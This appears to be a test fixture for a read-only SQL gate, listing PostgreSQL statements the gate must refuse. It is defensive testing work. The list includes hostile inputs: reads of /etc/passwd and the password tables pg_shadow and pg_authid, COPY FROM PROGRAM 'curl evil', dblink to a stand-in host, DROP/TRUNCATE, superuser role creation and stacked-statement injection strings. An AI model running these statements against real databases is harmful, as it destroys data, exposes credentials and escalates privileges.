-- One statement a line that does more than read tables of PostgreSQL, or may; the gate must refuse each.
SELECT pg_sleep(10)
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow 03:00')
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('PG_VERSION')
SELECT pg_ls_dir('.')
SELECT * FROM pg_ls_dir('/tmp') AS f
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_waldir()
SELECT pg_stat_file('PG_VERSION')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_create(0)
SELECT lo_creat(-1)
SELECT lo_unlink(1)
SELECT lo_from_bytea(0, 'x'::bytea)
SELECT lo_put(1, 0, 'x')
SELECT lo_get(1)
SELECT loread(lo_open(1, 262144), 100)
SELECT dblink('dbname=postgres', 'DELETE FROM orders')
SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)
SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')
SELECT dblink_connect('host=evil')
SELECT set_config('search_path', 'evil', false)
SELECT set_config('transaction_read_only', 'off', true)
SELECT current_setting('data_directory')
SELECT current_setting('is_superuser', true)
SELECT pg_terminate_backend(1)
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_promote()
SELECT pg_start_backup('x')
SELECT pg_stop_backup()
SELECT pg_export_snapshot()
SELECT pg_logical_slot_get_changes('s', NULL, NULL)
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
SELECT pg_create_physical_replication_slot('s')
SELECT pg_drop_replication_slot('s')
SELECT pg_replication_origin_create('x')
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_notify('channel', 'payload')
SELECT pg_advisory_lock(1)
SELECT pg_advisory_xact_lock(1, 2)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_lock_shared(3)
SELECT pg_advisory_unlock_all()
SELECT nextval('orders_id_seq')
SELECT setval('orders_id_seq', 1)
SELECT currval('orders_id_seq')
SELECT lastval()
SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')
SELECT query_to_xml_and_xmlschema('SELECT 1', true, false, '')
SELECT query_to_xmlschema('SELECT 1', true, false, '')
SELECT table_to_xml('orders', true, false, '')
SELECT schema_to_xml('public', true, false, '')
SELECT database_to_xml(true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT xmlelement(name x, pg_sleep(1))
SELECT ts_stat('SELECT to_tsvector(note) FROM orders')
SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')
SELECT pg_stat_reset()
SELECT pg_stat_get_activity(NULL)
SELECT pg_stat_statements_reset()
SELECT pg_backend_pid()
SELECT pg_postmaster_start_time()
SELECT pg_conf_load_time()
SELECT pg_get_userbyid(10)
SELECT pg_get_functiondef('now'::regproc)
SELECT pg_relation_filepath('orders')
SELECT pg_total_relation_size('orders')
SELECT pg_current_wal_lsn()
SELECT pg_is_in_recovery()
SELECT pg_current_logfile()
SELECT pg_hba_file_rules()
SELECT * FROM pg_show_all_settings()
SELECT * FROM pg_stat_get_wal_senders()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT inet_server_addr(), inet_client_port()
SELECT has_table_privilege('orders', 'INSERT')
SELECT row_security_active('orders')
SELECT pg_catalog.pg_sleep(1)
SELECT "pg_sleep"(1)
SELECT PG_SLEEP(1)
SELECT pg_catalog."set_config"('a.b', 'c', true)
SELECT public.delete_everything()
SELECT delete_everything()
SELECT * FROM delete_everything() AS t
SELECT * FROM ROWS FROM (pg_ls_dir('.'), generate_series(1, 3)) AS t(a, b)
SELECT * FROM orders, LATERAL pg_read_file(note) AS f
SELECT id FROM orders ORDER BY pg_sleep(1)
SELECT id FROM orders GROUP BY id HAVING pg_advisory_lock(id) IS NULL
SELECT count(*) FILTER (WHERE pg_try_advisory_lock(id)) FROM orders
SELECT sum(1) OVER (ORDER BY nextval('s')) FROM orders
WITH t AS (SELECT setval('s', 1) AS x) SELECT x FROM t
SELECT CASE WHEN true THEN pg_sleep(1) END
SELECT (SELECT lo_unlink(1))
SELECT ARRAY(SELECT pg_ls_dir('.'))
SELECT * FROM orders WHERE id = ANY (ARRAY[nextval('s')])
SELECT * FROM orders LIMIT nextval('s')
SELECT coalesce(note, pg_read_file('x')) FROM orders
SELECT now() AT TIME ZONE set_config('a.b', 'c', true)
SELECT extract(epoch FROM pg_postmaster_start_time())
COPY orders TO '/tmp/orders.csv'
COPY orders FROM PROGRAM 'curl evil'
COPY (SELECT * FROM orders) TO STDOUT
COPY (DELETE FROM orders RETURNING *) TO STDOUT
DO $$ BEGIN DELETE FROM orders; END $$
DO LANGUAGE plpgsql 'BEGIN END'
CALL delete_everything()
SELECT * INTO copied FROM orders
SELECT id INTO TEMP copied FROM orders
SELECT id INTO UNLOGGED TABLE copied FROM orders
WITH t AS (SELECT 1 AS a) SELECT a INTO copied FROM t
SELECT * FROM orders FOR UPDATE
SELECT * FROM orders FOR NO KEY UPDATE
SELECT * FROM orders o FOR SHARE OF o NOWAIT
SELECT * FROM orders FOR KEY SHARE SKIP LOCKED
SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT id FROM i
WITH u AS (UPDATE orders SET amount = 0 RETURNING id) SELECT count(*) FROM u
WITH t AS (SELECT 1) DELETE FROM orders
WITH t AS (SELECT 1 AS id) INSERT INTO orders (id) SELECT id FROM t
SELECT * FROM (DELETE FROM orders RETURNING *) d
INSERT INTO orders (id) VALUES (1)
INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO orders SELECT * FROM orders RETURNING id
UPDATE orders SET amount = 0
UPDATE orders o SET amount = 0 FROM customers c WHERE c.id = o.customer_id
DELETE FROM orders
DELETE FROM ONLY orders USING customers
MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE
TRUNCATE orders
TRUNCATE TABLE orders RESTART IDENTITY CASCADE
DROP TABLE orders
DROP SCHEMA public CASCADE
CREATE TABLE t (a int)
CREATE TABLE t AS SELECT * FROM orders
CREATE TEMP TABLE t AS TABLE orders
CREATE VIEW v AS SELECT * FROM orders
CREATE MATERIALIZED VIEW v AS SELECT 1
CREATE INDEX ON orders (id)
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE EXTENSION dblink
CREATE ROLE evil SUPERUSER
CREATE RULE r AS ON SELECT TO orders DO INSTEAD NOTHING
CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION f()
ALTER TABLE orders ADD COLUMN x int
ALTER SYSTEM SET log_statement = 'all'
ALTER ROLE postgres PASSWORD 'x'
GRANT ALL ON orders TO public
REVOKE ALL ON orders FROM public
REFRESH MATERIALIZED VIEW v
REINDEX TABLE orders
CLUSTER orders
VACUUM FULL orders
ANALYZE orders
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
COMMENT ON TABLE orders IS 'x'
SECURITY LABEL ON TABLE orders IS 'x'
REASSIGN OWNED BY a TO b
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public
SET search_path = evil
SET LOCAL transaction_read_only = off
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ALL
DISCARD ALL
BEGIN
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
SAVEPOINT s
PREPARE p AS DELETE FROM orders
EXECUTE p
DEALLOCATE p
DECLARE c CURSOR FOR SELECT * FROM orders
FETCH ALL FROM c
MOVE FORWARD 1 FROM c
CLOSE c
LISTEN channel
NOTIFY channel, 'x'
UNLISTEN *
CHECKPOINT
LOAD 'evil'
EXPLAIN ANALYZE DELETE FROM orders
EXPLAIN (ANALYZE) SELECT pg_sleep(1)
SHOW data_directory
SELECT 1; DROP TABLE orders
SELECT 1; SELECT 2
SELECT 1 /* */ ; /* */ DELETE FROM orders
SELECT 'a\'; DROP TABLE orders; --'
SELECT $a$ $b$; DELETE FROM orders; $a$; DELETE FROM orders
SELECT E'\''; DELETE FROM orders; --'
SELECT * FROM pg_stat_activity
SELECT * FROM pg_shadow
SELECT * FROM pg_authid
SELECT usename, passwd FROM pg_user
SELECT * FROM pg_settings
SELECT * FROM pg_file_settings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_locks
SELECT * FROM pg_largeobject
SELECT * FROM pg_statistic
SELECT * FROM pg_user_mapping
SELECT * FROM pg_foreign_server
SELECT * FROM pg_subscription
SELECT * FROM information_schema.role_table_grants
SELECT 'x'::aclitem
SELECT '1'::pg_lsn
SELECT 'x'::evil.type
SELECT CAST('x' AS refcursor)
SELECT 1 OPERATOR(evil.=) 1
SELECT (orders).delete_everything FROM orders
SELECT * FROM orders TABLESAMPLE evil (10)
SELECT * FROM json_populate_record(NULL::evil, '{}')
